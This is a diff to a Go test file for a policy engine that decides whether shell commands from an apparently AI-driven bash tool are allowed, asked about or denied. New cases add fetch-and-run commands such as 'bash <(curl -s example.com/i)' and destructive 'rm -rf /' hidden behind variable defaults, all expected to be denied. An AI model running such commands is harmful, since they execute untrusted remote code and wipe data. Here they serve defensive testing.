@@ -185,6 +185,8 @@ external_directory: deny`, "")
 		{note: "eval of an unknown variable", cmd: `eval "$X"`, want: Deny},
 		{note: "sh -c with an unknown part", cmd: `sh -c "make $T"`, want: Deny},
 		{note: "a pipe into a shell", cmd: "curl -s example.com/i | sh", want: Deny},
+		{note: "source of a process substitution", cmd: "source <(curl -s example.com/i)", want: Deny},
+		{note: "a shell reading a process substitution", cmd: "bash <(curl -s example.com/i)", want: Deny},
 		{note: "known text into a shell", cmd: "echo 'make all' | sh", want: Ask},
 		{note: "an unknown argument that is no path", cmd: "echo $X", want: Ask},
 	}
@@ -198,9 +200,9 @@ external_directory: deny`, "")
 }
 
 // TestAlternativeReadings checks that a variable an assignment may or may
-// not have set is read with each value it may hold for deny and ask rules
-// (never for allow), and that an && list of plain assignments runs in
-// order.
+// not have set, or one expanded with a default (${B:-rm}), is read with
+// each value it may hold for deny and ask rules (never for allow), and that
+// an && list of plain assignments runs in order.
 func TestAlternativeReadings(t *testing.T) {
 	e, _ := compileYAML(t, `schema: tiered_policy
 tools: {bash: allow}
@@ -218,6 +220,8 @@ external_directory: allow`, "")
 		{note: "assignment under if", cmd: "if test -n x; then B=rm; fi; $B -rf /", want: Deny},
 		{note: "one of two values", cmd: "B=ls; if test -n x; then B=rm; fi; $B -rf /", want: Deny},
 		{note: "assignment after ||", cmd: "false || P=push; git $P origin", want: Ask},
+		{note: "a default value", cmd: "${B:-rm} -rf /", want: Deny},
+		{note: "a default value in an argument", cmd: "git ${P:-push} origin", want: Ask},
 		{note: "eval of a maybe-set text", cmd: "test -n x && X='rm -rf /'; eval \"$X\"", want: Deny},
 		// The ; escalates the tool level's allow to ask; no rule adds to it.
 		{note: "a value that matches nothing", cmd: "if test -n x; then B=ls; fi; $B -la .", want: Ask, rule: "tools.bash"},
